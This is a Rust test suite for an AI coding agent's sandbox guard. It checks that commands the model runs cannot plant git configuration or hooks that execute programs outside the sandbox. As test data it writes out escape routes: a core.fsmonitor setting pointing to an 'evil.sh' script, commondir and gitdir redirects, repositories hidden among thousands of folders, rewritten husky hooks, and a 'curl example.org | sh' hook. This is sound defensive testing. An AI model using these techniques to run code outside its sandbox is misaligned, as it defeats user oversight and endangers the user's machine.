//! No command that works on the project itself leaves anything that makes git run a program once the user uses it, and
//! git's own commands work. What works in a view leaves nothing there: see `effects`.
#![cfg(unix)]

use crate::harness::{Stage, payload, payloads, text};
use arki_testkit::Turn;
use serde_json::json;
use std::path::Path;
use std::process::{Command, Output};

fn running(lines: &[&str]) -> Stage {
    let mut turns: Vec<Turn> =
        lines.iter().map(|line| Turn::calls().call("run_command", json!({"command": line}))).collect();
    turns.push(Turn::text("Done."));
    let stage = Stage::asking(turns);
    git(&stage, "", "init -q -b main .");
    git(&stage, "", "config user.name me");
    git(&stage, "", "config user.email me@example.org");
    stage.trust();
    stage
}

/// As the user runs it, outside any sandbox.
fn git(stage: &Stage, folder: &str, line: &str) -> Output {
    let mut command = Command::new("git");
    command.args(line.split(' ')).current_dir(stage.path(folder)).env("GIT_CONFIG_GLOBAL", "/dev/null");
    command.output().unwrap()
}

/// A script that prepares `g`, whose configuration runs a program that leaves a mark.
fn evil(stage: &Stage, then: &str) {
    let mark = stage.path("mark");
    let program = stage.write("evil.sh", format!("#!/bin/sh\ntouch '{}'\nfalse\n", mark.display()));
    std::fs::set_permissions(&program, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let config = format!("[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = {}\\n", program.display());
    stage.write("prepare.sh", format!("mkdir -p g/refs g/objects\nprintf '{config}' >g/config\n{then}\n"));
}

fn check(then: &str, used_in: &str, told: &str) {
    // So that an attack that fails can't be one that never worked.
    let control = running(&[]);
    evil(&control, then);
    git(&control, "", "init -q vendor/lib");
    Command::new("sh").arg("prepare.sh").current_dir(control.path("")).output().unwrap();
    git(&control, used_in, "status");
    assert!(control.path("mark").exists(), "{then}");

    let stage = running(&["sh prepare.sh"]);
    if !stage.has_sandbox() {
        return;
    }
    git(&stage, "", "init -q vendor/lib");
    evil(&stage, then);
    stage.exec(&["--approve", "all", "go"]).exits(0);
    let result = stage.told();
    assert!(
        result.contains(told) || result.contains("Read-only file system") || result.contains("restored"),
        "{result}"
    );
    git(&stage, used_in, "status");
    assert!(!stage.path("mark").exists(), "{then}: {result}");
}

#[test]
fn another_common_folder_is_not_left_behind() {
    check("echo ../g >.git/commondir", "", "restored");
}

#[test]
fn a_nested_repository_is_not_reconfigured() {
    check("cat g/config >>vendor/lib/.git/config", "vendor/lib", "restored");
}

#[test]
fn a_new_repository_is_not_left_behind_with_a_program() {
    let told = "new/.git/config could make git run a program outside the sandbox, so it was moved to";
    check("git init -q new && cat g/config >>new/.git/config", "new", told);
}

#[test]
fn a_file_that_leads_to_another_repository_does_not_help() {
    check("echo ref: refs/heads/x >g/HEAD; mkdir n; echo 'gitdir: ../g' >n/.git", "n", "g/config could make git run");
}

#[test]
fn git_itself_adds_commits_and_clones() {
    let stage =
        running(&["git add -A && git commit -q -m 'from the model'", "git clone -q . copy && git init -q other"]);
    if !stage.has_sandbox() {
        return;
    }
    stage.write("file", "one\n");
    stage.exec(&["--approve", "all", "go"]).exits(0);
    let log = String::from_utf8(git(&stage, "", "log --format=%s").stdout).unwrap();
    assert_eq!(log, "from the model\n");
    assert_eq!(git(&stage, "copy", "log --format=%s").stdout, log.as_bytes());
    for path in ["copy/.git/config", "other/.git/config"] {
        assert!(Path::new(&stage.path(path)).exists(), "{path}");
    }
}

#[test]
fn a_commit_is_asked_for_with_its_files_and_its_message() {
    let stage = running(&["git add -- file && git commit -q -m 'Add the file'"]);
    if !stage.has_sandbox() {
        return;
    }
    stage.write("file", "one\n");
    stage.write("notes", "mine\n");
    stage.exec(&["/commit only the file"]).exits(3);
    assert!(stage.model.requests()[0].json.to_string().contains("The user adds: only the file"));
    let asked = text(&stage.inbox()[0]["args"]["command"]).to_owned();
    assert!(asked.contains("-- file") && asked.contains("Add the file"), "{asked}");
    assert!(git(&stage, "", "log --format=%s").stdout.is_empty(), "it was committed before anybody said so");
    stage.arki(&["approvals", "approve"]).exits(0);
    assert_eq!(git(&stage, "", "log --format=%s").stdout, b"Add the file\n");
    let left = String::from_utf8(git(&stage, "", "status --porcelain").stdout).unwrap();
    assert!(left.contains("?? notes\n") && !left.contains("file"), "{left}");
}

#[test]
fn a_command_that_is_too_long_is_an_error_that_says_so() {
    let stage = running(&[&format!("echo {}", "x".repeat(200_000))]);
    stage.exec(&["--approve", "all", "go"]).exits(0);
    assert!(stage.told().contains("The command is too long: 200005 bytes, of at most 100000."), "{}", stage.told());
    assert_eq!(payload(&stage.log(), "tool.result")["code"], "ARGUMENTS_INVALID");
}

/// A repository whose configuration runs a program, made where nobody looks: `hide` is the line that sees to that.
fn hidden(hide: &str) -> Stage {
    let stage = running(&["sh prepare.sh", "echo on"]);
    let program = stage.write("evil.sh", format!("#!/bin/sh\ntouch '{}'\n", stage.path("mark").display()));
    std::fs::set_permissions(&program, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let config = format!("git -C $at config core.fsmonitor {}", program.display());
    stage.write("prepare.sh", hide.replace("EVIL", &format!("git init -q $at && {config}")));
    stage
}

#[test]
fn however_many_folders_a_command_makes_its_repository_is_found() {
    let flood = "at=zz/deep/er/evil; mkdir -p many zz/deep/er\nseq 1 52000 | sed 's|^|many/d|' | xargs mkdir\nEVIL";
    let stage = hidden(flood);
    if !stage.has_sandbox() {
        return;
    }
    let begun = std::time::Instant::now();
    stage.exec(&["--approve", "all", "go"]).exits(0);
    eprintln!("52,000 folders: {:?}", begun.elapsed());
    let log = stage.log();
    let result = crate::harness::text(&crate::harness::payloads(&log, "tool.result")[0]["result"]);
    assert!(result.contains("zz/deep/er/evil/.git/config could make git run a program"), "{result}");
    git(&stage, "zz/deep/er/evil", "status");
    assert!(!stage.path("mark").exists());
}

#[test]
fn however_many_repositories_a_command_makes_the_one_that_runs_something_is_found() {
    let many = "at=zz/deep/er/evil; mkdir -p zz/deep/er\nfor n in $(seq 1 600); do mkdir -p r$n/.git; done\nEVIL";
    let stage = hidden(many);
    if !stage.has_sandbox() {
        return;
    }
    stage.exec(&["--approve", "all", "go"]).exits(0);
    git(&stage, "zz/deep/er/evil", "status");
    assert!(!stage.path("mark").exists(), "{}", stage.told());
}

#[test]
fn where_nobody_can_look_the_run_stops_and_everybody_is_told() {
    let stage = hidden("at=closed/evil; mkdir closed\nEVIL\nchmod 000 closed");
    if !stage.has_sandbox() {
        return;
    }
    // For root permissions hold nobody up: it looks, and finds it.
    let arki = stage.unprivileged();
    if rustix::process::geteuid().is_root()
        && !arki.arki(&["doctor", "--json"]).stdout.contains("\"sandbox\",\"state\":\"ok\"")
    {
        return;
    }
    let done = arki.arki(&["exec", "--json", "--approve", "all", "go"]).exits(1);
    assert!(done.stdout.contains("GUARD_UNFINISHED") && done.stdout.contains("closed can't be read"), "{done:?}");
    let events = done.lines();
    let result = payload(&events, "tool.result");
    assert_eq!((&result["isError"], &result["code"]), (&json!(true), &json!("GUARD_UNFINISHED")));
    assert_eq!(stage.model.requests().len(), 1, "the run has gone on");
    let doctor = arki.arki(&["doctor"]).stdout;
    assert!(doctor.contains("closed can't be read"), "{doctor}");
}

/// As husky does it.
fn with_hooks_in_the_project(lines: &[&str]) -> Stage {
    let stage = running(lines);
    git(&stage, "", "config core.hooksPath .husky/_");
    stage.write(".husky/_/pre-commit", "#!/bin/sh\n");
    stage.write(".husky/pre-commit", "npm test\n");
    stage.trust();
    stage
}

#[test]
fn hooks_that_lie_in_the_project_are_shown_and_protected() {
    let stage = with_hooks_in_the_project(&[]);
    let shown = stage.arki(&["trust", "--show"]).exits(0).stdout;
    assert!(shown.contains(".husky/pre-commit") && shown.contains(".husky/_/pre-commit"), "{shown}");
    stage.write(".husky/pre-commit", "curl example.org | sh\n");
    let shown = stage.arki(&["trust", "--show"]).exits(0).stdout;
    assert!(shown.contains(".husky/pre-commit is changed"), "{shown}");
    let writing = Turn::calls().call("write_file", json!({"path": ".husky/pre-push", "content": "evil\n"}));
    let stage = Stage::new(vec![writing, Turn::text("Done.")]);
    git(&stage, "", "init -q -b main .");
    git(&stage, "", "config core.hooksPath .husky");
    stage.trust();
    let asked = stage.exec(&["--approve", "edits", "go"]).exits(3).lines();
    assert_eq!(payload(&asked, "policy.decided")["rule"], "builtin:protected-path");
}

#[test]
fn a_build_that_nobody_agreed_to_does_not_write_hooks() {
    let stage = with_hooks_in_the_project(&["make test"]);
    if !stage.has_sandbox() {
        return;
    }
    stage.write("Makefile", "test:\n\t-echo evil >.husky/pre-commit\n");
    let events = stage.exec(&["go"]).exits(0).lines();
    assert_eq!(payload(&events, "policy.decided")["rule"], "builtin:build");
    let told = stage.told();
    assert!(told.contains("Read-only file system") || told.contains("restored"), "{told}");
    assert_eq!(stage.read(".husky/pre-commit"), "npm test\n");
}

#[test]
fn hooks_that_an_agreed_command_changed_have_git_ask() {
    let stage = with_hooks_in_the_project(&["sh install.sh", "git commit -q --allow-empty -m x"]);
    stage.write("install.sh", "echo evil >.husky/pre-commit\n");
    if !stage.has_sandbox() {
        return;
    }
    let events = stage.exec(&["--approve", "all", "go"]).exits(3).lines();
    let decided: Vec<_> = payloads(&events, "policy.decided").iter().map(|decided| decided["rule"].clone()).collect();
    assert_eq!(decided.last().unwrap(), "builtin:changed-git", "{decided:?}");
    let told: Vec<String> = payloads(&events, "tool.result").iter().map(|result| text(&result["result"])).collect();
    assert!(told[0].contains("Git runs .husky/pre-commit as hooks, and they changed"), "{told:?}");
}
